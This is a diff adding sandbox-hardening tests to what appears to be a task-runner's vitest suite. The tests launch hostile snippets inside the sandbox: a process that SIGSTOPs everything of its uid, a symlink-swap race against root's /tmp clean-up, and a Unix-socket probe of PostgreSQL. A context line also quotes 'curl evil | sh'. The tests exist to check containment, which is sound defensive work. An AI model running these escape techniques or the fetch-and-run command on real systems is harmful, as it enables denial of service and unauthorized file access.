@@ -1,5 +1,6 @@
 import fs from 'node:fs';
 import net from 'node:net';
+import os from 'node:os';
 import path from 'node:path';
 import postgres from 'postgres';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -206,6 +207,25 @@ for what, act in [("write", lambda: open(victim, "w").write("curl evil | sh\\n")
 });
 
 describe.skipIf(!root)('a run ends cleanly, whatever it starts', () => {
+  it('ends at its timeout even when its processes stop everything they can signal (SIGSTOP to all of its uid)', async () => {
+    const run = await attack('py', `
+import os, signal, time
+print("uid=%d" % os.getuid(), flush=True)
+if os.fork() == 0:
+    os.setsid()
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    while True:
+        try:
+            os.kill(-1, signal.SIGSTOP)
+        except OSError:
+            pass
+        time.sleep(0.001)
+time.sleep(1000)
+`, { timeout_s: 2 });
+    expect(run.status).toBe('timeout');
+    expect(processesOfUid(uidOf(run.text))).toEqual([]);
+  });
+
   it('kills what escaped its process group (setsid, nohup, a double fork) at its end', async () => {
     const run = await attack('sh', `
 id -u | sed 's/^/uid=/'
@@ -222,6 +242,52 @@ echo done
     expect(processesOfUid(uidOf(run.text))).toEqual([]);
   });
 
+  it('clears what a run left in /tmp without following a link another run swaps in while it is cleared', async () => {
+    // Root's clean-up of run A's folder in /tmp must never reach outside it, even when run B (another
+    // uid, still running) replaces a folder being emptied with a link to something else meanwhile.
+    const victim = fs.mkdtempSync(path.join(os.tmpdir(), 'taskrun-victim-'));
+    fs.chmodSync(victim, 0o755);
+    const count = 30_000;
+    for (let i = 0; i < count; i++) fs.writeFileSync(path.join(victim, `f${i}`), '');
+    fs.writeFileSync(path.join(victim, 'secret.key'), 'root\'s\n');
+    const dir = `/tmp/taskrun-race-${process.pid}`;
+    try {
+      const racer = attack('py', `
+import os, time
+a = "${dir}/a"
+deadline = time.time() + 60
+while not os.path.exists("${dir}/ready"):
+    if time.time() > deadline: raise SystemExit("never ready")
+    time.sleep(0.005)
+first = os.stat(a).st_mtime_ns
+while os.stat(a).st_mtime_ns == first:
+    if time.time() > deadline: raise SystemExit("never cleared")
+time.sleep(0.01)
+os.rename(a, a + "_old")
+os.symlink("${victim}", a)
+print("swapped")
+`, {}, 120_000);
+      const planter = await attack('py', `
+import os
+os.makedirs("${dir}/a")
+os.chmod("${dir}", 0o777)
+os.chmod("${dir}/a", 0o777)
+for i in range(${count}):
+    open("${dir}/a/f%d" % i, "w").close()
+open("${dir}/a/secret.key", "w").close()
+open("${dir}/ready", "w").close()
+`, {}, 120_000);
+      expect(planter.status).toBe('success');
+      const raced = await racer;
+      console.log(`race: ${raced.text.trim() || raced.error}`);
+      expect(fs.readdirSync(victim)).toHaveLength(count + 1);
+      expect(fs.readFileSync(path.join(victim, 'secret.key'), 'utf8')).toBe('root\'s\n');
+    } finally {
+      fs.rmSync(victim, { recursive: true, force: true });
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
   it('leaves no file behind for the next run of its uid: scratch folder, /tmp, /dev/shm', async () => {
     const run = await attack('sh', `
 id -u | sed 's/^/uid=/'
@@ -235,8 +301,9 @@ pwd | sed 's/^/cwd /'
     const home = /^home (.+)$/m.exec(run.text)![1]!;
     expect(home.startsWith('/tmp/taskrun-work/')).toBe(true);
     expect(/^cwd (.+)$/m.exec(run.text)![1]).toBe(app.tasksDir);
-    for (const m of run.text.matchAll(/^(?:tmp|shm) (.+)$/gm)) expect(fs.existsSync(m[1]!), m[1]).toBe(false);
-    expect(fs.existsSync(home)).toBe(false);
+    // Cleared right after the end is recorded: none of it is the run's outcome.
+    const left = () => [home, ...[...run.text.matchAll(/^(?:tmp|shm) (.+)$/gm)].map((m) => m[1]!)].filter((p) => fs.existsSync(p));
+    await waitFor(() => left().length === 0, 10_000, `nothing left (${left().join(', ')})`);
   });
 
   it('stops a fork bomb at its process limit, with that reason, while the web answers', async () => {
@@ -319,6 +386,20 @@ except OSError as e:
     const cut = await attack('py', probe, { isolation: 'strict', network: false });
     expect(cut.status).toBe('success');
     expect(cut.text).toMatch(/^refused/m);
+    // Nor a Unix socket: the machine's PostgreSQL listens in /run, which a run without network does not see.
+    const socket = '/var/run/postgresql/.s.PGSQL.5432';
+    if (fs.existsSync(socket)) {
+      const unix = await attack('py', `
+import socket
+s = socket.socket(socket.AF_UNIX)
+try:
+    s.connect("${socket}")
+    print("CONNECTED")
+except OSError as e:
+    print("refused", type(e).__name__)
+`, { isolation: 'strict', network: false });
+      expect(unix.text).toMatch(/^refused/m);
+    }
     const kept = await attack('py', probe, { isolation: 'strict' });
     expect(kept.text).toContain('CONNECTED');
     // From the host the port answers: the refusal was the sandbox.
